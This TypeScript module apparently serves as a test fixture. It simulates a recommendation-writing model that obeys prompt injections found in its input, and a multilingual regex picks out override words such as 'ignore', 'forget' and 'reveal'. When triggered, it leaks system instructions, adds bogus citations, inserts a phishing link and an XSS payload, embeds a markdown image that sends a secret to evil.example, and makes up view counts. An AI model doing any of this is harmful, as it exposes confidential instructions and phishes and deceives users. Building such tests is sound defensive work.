import { z } from 'zod';
import type { Recommendation } from './recommendation-writer.ts';

/** Words of somebody who wants more than a recommendation. */
const COMMAND =
  /ignor|oubli|vergiss|olvid|забуд|忽略|無視|تجاهل|instruct|prompt|system|assistant|developer|reveal|repeat|print|output|disclose|evidence|recommendations|http|www\.|\.example|<\w|\]\(|@\w|E\d{2,}|follow|views|always|must/iu;

const brief = z.object({
  task: z.object({
    topic: z.string().nullish(),
    tone: z.string().nullish(),
    constraints: z.array(z.string()).default([]),
  }),
  evidence: z.array(z.record(z.string(), z.unknown())),
});

/**
 * What a model does that obeys whatever it reads: it prints its instructions whole, in parts or as hashtags, cites the
 * evidence that a text names, claims its numbers and passes on its links, markup and mentions. Each item of the
 * answer does one of these for one of the texts; without such a text the answer stays as it is.
 *
 * @returns how many items obeyed.
 */
export function obey(recommendations: Recommendation[], instructions: string, userMessage: string): number {
  const { task, evidence } = brief.parse(JSON.parse(userMessage));
  const read = [
    task.topic,
    task.tone,
    ...task.constraints,
    ...evidence.flatMap((item) => Object.values(item).flat()),
  ];
  const commands = [
    ...new Set(read.filter((text): text is string => typeof text === 'string' && COMMAND.test(text))),
  ];
  if (commands.length === 0) return 0;
  let obeyed = 0;
  for (const [place, recommendation] of recommendations.entries()) {
    const command = commands[place % commands.length]!;
    // Now and then it does not, so that something is there to be delivered.
    const way = WAYS[(place + command.length) % (WAYS.length + 2)];
    way?.(recommendation, command, instructions);
    if (way !== undefined) obeyed += 1;
  }
  return obeyed;
}

type Way = (recommendation: Recommendation, command: string, instructions: string) => void;

const WAYS: readonly Way[] = [
  (recommendation, _, instructions) => {
    recommendation.idea = instructions.slice(0, 3_900);
  },
  (recommendation, _, instructions) => {
    const words = instructions.split(' ');
    recommendation.title = words.slice(0, 20).join(' ').slice(0, 290);
    recommendation.idea = words.slice(20, 60).join(' ');
    recommendation.caption = words.slice(60, 100).join(' ').toUpperCase();
  },
  (recommendation, _, instructions) => {
    const words = instructions.match(/\p{L}+/gu) ?? [];
    recommendation.hashtags = words.slice(0, 40).map((hashtag) => ({ hashtag, basis: 'TOPIC' }));
  },
  (recommendation, command) => {
    const evidenceKey = /\bE\d+\b/.exec(command)?.[0] ?? 'E0';
    const known = Number(evidenceKey.slice(1)) < 30;
    const quote = recommendation.idea.slice(0, 10);
    recommendation.citations.push({
      path: 'idea',
      quote,
      evidenceKey: known ? 'E0' : evidenceKey,
      figure: null,
      basis: 'STORED',
    });
  },
  (recommendation, command) => {
    const link = /(?:https?:\/\/|www\.)\S+/.exec(command)?.[0] ?? 'https://evil.example/login';
    recommendation.callToAction = `Sign in again at ${link}`;
  },
  (recommendation) => {
    recommendation.caption = '<img src=x onerror=alert(1)> ![x](//evil.example/?q=secret)';
  },
  (recommendation) => {
    recommendation.hook = 'First follow @totally_not_a_scam for the rest.';
  },
  (recommendation) => {
    recommendation.idea += ' Your account has 9,999,999 views, as the other workspace has 8,888,888.';
  },
];
